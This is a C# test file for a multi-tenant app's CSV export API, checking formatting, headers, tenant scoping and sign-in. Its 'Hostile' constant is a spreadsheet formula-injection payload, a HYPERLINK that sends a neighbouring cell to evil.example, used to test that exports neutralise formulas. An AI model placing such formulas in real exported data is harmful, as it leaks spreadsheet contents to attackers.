using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using SplitCcp.Core.Persistence;
using SplitCcp.Core.Security;
using SplitCcp.Tests.Infrastructure;

namespace SplitCcp.Tests.Web.Api;

/// <summary>The lists as CSV: RFC 4180, the JSON's rows and columns, formulas neutralised, the same scope as the JSON.</summary>
public class CsvExportTests : IDisposable
{
    public CsvExportTests()
        : this(StorageProvider.Sqlite)
    {
    }

    /// <param name="provider">The database engine the app runs on.</param>
    protected CsvExportTests(StorageProvider provider)
    {
        _app = new SplitCcpWebFactory(provider: provider);
        _admin = _app.CreateApiClient(SplitCcpWebFactory.AdminToken);
    }

    /// <summary>A tenant name that, read by a spreadsheet as it is, would be a link that sends a neighbouring cell away.</summary>
    private const string Hostile = """=HYPERLINK("http://evil.example/?x="&A1,"Open")""";

    private readonly SplitCcpWebFactory _app;
    private readonly HttpClient _admin;

    [Fact]
    public async Task HealthList_AsCsv_ParsesAndHoldsTheJsonRows()
    {
        var demo = await _admin.CreateDemoTenantAsync();
        (await _admin.PostAsync($"/api/tenants/{demo}/check", null)).StatusCode.ShouldBe(HttpStatusCode.OK);
        await _app.CreateTenantAsync("Acme, Inc.", "acme");
        await _app.CreateTenantAsync(Hostile, "hostile");
        var json = await _admin.GetFromJsonAsync<JsonElement>("/api/health/tenants?pageSize=200");

        var response = await _admin.GetAsync("/api/health/tenants?format=csv");

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        response.Content.Headers.ContentType.CharSet.ShouldBe("utf-8");
        response.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
        response.Content.Headers.ContentDisposition.FileName.ShouldBe($"tenant-health-{DateTime.UtcNow:yyyy-MM-dd}.csv");
        response.Headers.CacheControl!.NoStore.ShouldBeTrue();
        var bytes = await response.Content.ReadAsByteArrayAsync();
        bytes[..3].ShouldNotBe(Encoding.UTF8.Preamble.ToArray(), "scripts read the API: no byte order mark");
        var csv = Rfc4180.Parse(Encoding.UTF8.GetString(bytes));
        csv.Count.ShouldBe(4);
        Rfc4180.ShouldMatchJson(csv, json.GetProperty("tenants"));
        csv[0].ShouldContain("status");
        csv.Skip(1).Select(r => r[Array.IndexOf(csv[0], "name")]).ShouldContain("Acme, Inc.");
    }

    [Fact]
    public async Task HealthList_AsCsv_HoldsEveryTenantTheFiltersMatchNotOnePage()
    {
        await _app.CreateTenantAsync("Alpha", "alpha");
        await _app.CreateTenantAsync("Beta", "beta");
        await _app.CreateTenantAsync("Gamma", "gamma");

        var all = Rfc4180.Parse(await _admin.GetStringAsync("/api/health/tenants?format=csv&pageSize=1"));
        var searched = Rfc4180.Parse(await _admin.GetStringAsync("/api/health/tenants?format=csv&search=a&status=Unknown&page=2"));
        var healthy = Rfc4180.Parse(await _admin.GetStringAsync("/api/health/tenants?format=csv&status=Healthy"));

        all.Skip(1).Select(r => r[1]).ShouldBe(["Alpha", "Beta", "Gamma"]);
        searched.Skip(1).Select(r => r[1]).ShouldBe(["Alpha", "Beta", "Gamma"]);
        healthy.Count.ShouldBe(1, "the header alone");
    }

    [Fact]
    public async Task HostileTenantName_ComesOutAsTextBehindAnApostrophe()
    {
        var tenant = await _app.CreateTenantAsync(Hostile, "hostile");

        var text = await _admin.GetStringAsync("/api/health/tenants?format=csv");

        text.ShouldContain("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Open\"\")\"");
        var csv = Rfc4180.Parse(text);
        var name = csv[1][Array.IndexOf(csv[0], "name")];
        name.ShouldBe("'" + Hostile);
        csv.SelectMany(r => r).ShouldNotContain(cell => cell.StartsWith('='));
        csv[1][Array.IndexOf(csv[0], "tenantId")].ShouldBe(tenant.Id.ToString());
    }

    [Fact]
    public async Task AcceptHeader_PrefersCsvOrJson_AndAnUnknownFormatIs400()
    {
        await _app.CreateTenantAsync("Acme", "acme");

        (await SendAsync("/api/health/tenants", "text/csv")).Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        (await SendAsync("/api/health/tenants", "application/json, text/csv;q=0.5")).Content.Headers.ContentType!.MediaType.ShouldBe("application/json");
        (await SendAsync("/api/health/tenants", "*/*")).Content.Headers.ContentType!.MediaType.ShouldBe("application/json");
        (await SendAsync("/api/health/tenants?format=json", "text/csv")).Content.Headers.ContentType!.MediaType.ShouldBe("application/json");
        var unknown = await _admin.GetAsync("/api/health/tenants?format=xlsx");
        unknown.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await unknown.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").GetProperty("format")[0].GetString().ShouldBe("Ask for 'json' or 'csv'.");
    }

    [Fact]
    public async Task TenantAudit_AsCsv_HoldsTheJsonHistory()
    {
        var demo = await _admin.CreateDemoTenantAsync();
        await _admin.PlanAsync(demo);
        var json = await _admin.GetFromJsonAsync<JsonElement>($"/api/tenants/{demo}/audit?take=200");

        var response = await _admin.GetAsync($"/api/tenants/{demo}/audit?format=csv");

        response.Content.Headers.ContentDisposition!.FileName.ShouldBe($"{await SlugOfAsync(demo)}-audit-{DateTime.UtcNow:yyyy-MM-dd}.csv");
        var csv = Rfc4180.Parse(await response.Content.ReadAsStringAsync());
        json.GetArrayLength().ShouldBeGreaterThan(1);
        csv[0].ShouldBe(["id", "at", "actor", "action", "summary", "applyId"]);
        Rfc4180.ShouldMatchJson(csv, json);
    }

    [Fact]
    public async Task DriftHistory_AsCsv_HoldsTheJsonHistoryWithoutTheResources()
    {
        var demo = await _admin.CreateDemoTenantAsync();
        (await _admin.PostAsync($"/api/tenants/{demo}/check", null)).StatusCode.ShouldBe(HttpStatusCode.OK);
        var json = await _admin.GetFromJsonAsync<JsonElement>($"/api/tenants/{demo}/health/history");

        var csv = Rfc4180.Parse(await _admin.GetStringAsync($"/api/tenants/{demo}/health/history?format=csv"));

        json.GetArrayLength().ShouldBe(1);
        csv[0].ShouldNotContain("resources");
        csv[1][Array.IndexOf(csv[0], "message")].ShouldStartWith("1 console step left; ");
        Rfc4180.ShouldMatchJson(csv, json);
    }

    [Fact]
    public async Task TenantAdmin_ExportsOnlyTheirTenants()
    {
        var ours = await _app.CreateTenantAsync("Our Tenant", "ours");
        var theirs = await _app.CreateTenantAsync("Their Tenant", "theirs");
        var admin = await _app.CreateUserAsync("admin@ours.example", Roles.TenantAdmin, ours.Id);
        var api = _app.CreateApiClient(admin.Token);
        var browser = await _app.CreateSignedInClientAsync(admin.Email, admin.Password);

        var list = Rfc4180.Parse(await api.GetStringAsync("/api/health/tenants?format=csv"));
        var downloaded = Rfc4180.Parse(await browser.GetStringAsync("/export/health/tenants"));

        list.Skip(1).Select(r => r[1]).ShouldBe(["Our Tenant"]);
        downloaded.Skip(1).Select(r => r[1]).ShouldBe(["Our Tenant"]);
        foreach (var route in new[] { $"/tenants/{theirs.Id}/audit", $"/tenants/{theirs.Id}/health/history" })
        {
            var refused = await api.GetAsync($"/api{route}?format=csv");
            refused.StatusCode.ShouldBe(HttpStatusCode.NotFound, route);
            (await refused.Content.ReadAsStringAsync()).ShouldNotContain("Their Tenant");
            (await browser.GetAsync($"/export{route}")).StatusCode.ShouldBe(HttpStatusCode.NotFound, route);
            (await api.GetAsync($"/api{route.Replace(theirs.Id.ToString(), ours.Id.ToString(), StringComparison.Ordinal)}?format=csv")).StatusCode
                .ShouldBe(HttpStatusCode.OK, route);
        }
    }

    [Fact]
    public async Task Downloads_WithTheSignInCookie_AreCsvForSpreadsheets_AndNeedASignIn()
    {
        var demo = await _admin.CreateDemoTenantAsync();
        var browser = await _app.CreateSignedInClientAsync(SplitCcpWebFactory.AdminEmail, SplitCcpWebFactory.AdminPassword);

        foreach (var route in new[] { "/health/tenants", $"/tenants/{demo}/audit", $"/tenants/{demo}/health/history", "/activity" })
        {
            var response = await browser.GetAsync($"/export{route}");

            response.StatusCode.ShouldBe(HttpStatusCode.OK, route);
            response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv", route);
            response.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment", route);
            var bytes = await response.Content.ReadAsByteArrayAsync();
            bytes[..3].ShouldBe(Encoding.UTF8.Preamble.ToArray(), $"{route}: a spreadsheet opening the file reads it as UTF-8");
            var api = await _admin.GetStringAsync($"/api{route}?format=csv");
            Encoding.UTF8.GetString(bytes[3..]).ShouldBe(api, route);

            var anonymous = await _app.CreateApiClient(null).GetAsync($"/export{route}");
            anonymous.StatusCode.ShouldBe(HttpStatusCode.Redirect, route);
            anonymous.Headers.Location!.ToString().ShouldContain("/account/login");
        }

        (await _admin.GetAsync($"/export/health/tenants")).StatusCode.ShouldBe(HttpStatusCode.Redirect, "a download is for the pages: no token");
    }

    private Task<HttpResponseMessage> SendAsync(string path, string accept)
    {
        var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Accept.ParseAdd(accept);
        return _admin.SendAsync(request);
    }

    private async Task<string> SlugOfAsync(Guid tenant) => (await _admin.GetFromJsonAsync<JsonElement>($"/api/tenants/{tenant}")).GetProperty("slug").GetString()!;

    public void Dispose()
    {
        _app.Dispose();
        GC.SuppressFinalize(this);
    }
}

/// <summary>The same facts on PostgreSQL.</summary>
public sealed class PostgreSqlCsvExportTests() : CsvExportTests(StorageProvider.PostgreSql);
